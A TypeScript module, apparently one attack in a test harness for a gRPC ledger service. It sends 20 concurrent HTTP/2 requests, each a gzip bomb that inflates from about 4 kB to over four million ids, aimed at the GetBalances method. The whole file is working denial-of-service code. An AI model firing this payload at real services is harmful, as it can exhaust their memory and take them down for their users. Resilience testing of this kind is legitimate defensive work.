// A few kilobytes of gzip that hold millions of ids.

import { connect, type ClientHttp2Session } from "node:http2";
import { once } from "node:events";
import { gzipSync } from "node:zlib";
import type { Attack } from "../attack.ts";

const TIMES = 20;
/** Field 1, as bytes, with 4,194,300 of them: each a 1. */
const IDS = Buffer.concat([Buffer.of(0x0a, 0xfc, 0xff, 0xff, 0x01), Buffer.alloc(4_194_300, 1)]);
const HEADERS = {
  ":method": "POST",
  ":path": "/ledger.v1.LedgerService/GetBalances",
  "content-type": "application/grpc",
  "grpc-encoding": "gzip",
};

export const attack: Attack = {
  title: "sends 4 kB of gzip with four million ids in them",
  run: async ({ grpcAddress }) => {
    const session = connect(`http://${grpcAddress}`);
    session.on("error", () => undefined);
    const zipped = gzipSync(IDS, { level: 9 });
    const prefix = Buffer.alloc(5);
    prefix.writeUInt8(1, 0);
    prefix.writeUInt32BE(zipped.length, 1);
    const body = Buffer.concat([prefix, zipped]);
    await Promise.all(Array.from({ length: TIMES }, () => send(session, body)));
    session.close();
    await once(session, "close");
  },
};

/** Sends a request, and waits for the end of its answer, whatever it is. */
async function send(session: ClientHttp2Session, body: Buffer): Promise<void> {
  const call = session.request(HEADERS);
  call.on("error", () => undefined).resume();
  call.end(body);
  await once(call, "close");
}
